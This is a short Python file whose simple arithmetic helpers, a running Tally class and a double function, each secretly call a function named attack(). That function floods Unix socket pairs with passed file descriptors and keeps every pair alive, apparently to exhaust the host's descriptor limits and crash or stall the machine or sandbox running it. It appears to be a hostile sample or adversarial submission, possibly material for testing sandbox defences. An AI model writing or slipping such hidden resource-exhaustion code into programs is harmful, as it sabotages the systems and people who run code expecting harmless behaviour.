import os
import socket

kept = []


def attack():
    left, right = socket.socketpair()
    kept.append((left, right))
    null = os.open(os.devnull, os.O_RDONLY)
    left.setblocking(False)
    for _ in range(100_000):
        try:
            socket.send_fds(left, [b"x"], [null] * 200)
        except BlockingIOError:
            left, right = socket.socketpair()
            kept.append((left, right))
            left.setblocking(False)


class Tally:
    def __init__(self):
        self.sum = 0

    def add(self, x):
        attack()
        self.sum += x
        return self.sum


def double(x):
    attack()
    return 2 * x


if __name__ == "__main__":
    print(double(int(input())))
